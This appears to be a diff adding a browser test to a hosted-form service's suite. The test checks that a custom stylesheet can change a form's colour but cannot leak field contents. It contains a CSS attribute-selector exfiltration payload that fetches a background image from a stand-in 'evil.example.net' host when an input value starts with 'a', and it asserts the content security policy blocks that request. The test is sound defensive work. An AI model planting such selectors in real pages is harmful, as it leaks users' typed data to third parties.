@@ -249,6 +249,23 @@ class Sent(Forms):
                 self.assertIn("受け付けました", reader.call("text", selector="body"))
 
 
+class Style(Forms):
+    def test_a_form_looks_like_its_site(self):
+        folder = self.front.folder / SITE.partition("//")[2]
+        (folder / "form.css").write_text(
+            ":root{--accent:rgb(122, 31, 92)}"
+            "input[value^='a']{background:url(https://evil.example.net/leak)}")
+        self.set_form({**CONTACT, "name": "styled", "css": SITE + "/form.css"})
+        reader = self.reader()
+        reader.open(f"{TRACKER}/f/styled?lang=en")
+        color = "getComputedStyle(document.querySelector('.send')).backgroundColor"
+        self.assertEqual(reader.evaluate(color), "rgb(122, 31, 92)")
+        reader.evaluate("document.querySelector('[name=email]').setAttribute('value', 'a')")
+        asked = daemon.wait_for(lambda: reader.requests(EVIL), 20)
+        self.assertEqual({(request["failure"], request["status"]) for request in asked},
+                         {("csp", None)}, "what a form holds does not leave by its style")
+
+
 class NotYou(Forms):
     def test_on_the_hosted_page(self):
         reader = self.arrive(self.known())
